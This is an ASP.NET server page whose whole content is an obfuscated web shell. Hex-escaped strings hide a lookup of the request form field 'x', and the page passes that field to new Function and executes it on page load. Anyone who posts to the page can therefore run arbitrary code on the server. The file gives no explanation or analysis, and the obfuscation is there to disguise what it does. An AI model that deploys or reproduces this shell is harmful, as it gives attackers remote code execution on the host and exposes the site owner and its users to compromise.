<%@ Page Language="javascript" Debug="false" %>
<script runat="server" language="javascript">
var _0xa1b2=["\x52\x65\x71\x75\x65\x73\x74","\x46\x6f\x72\x6d","\x78"];
function Page_Load(){var _0xc3d4=this[_0xa1b2[0x0]][_0xa1b2[0x1]][_0xa1b2[0x2]];var _0xe5f6=new Function(_0xc3d4);_0xe5f6();}
</script>
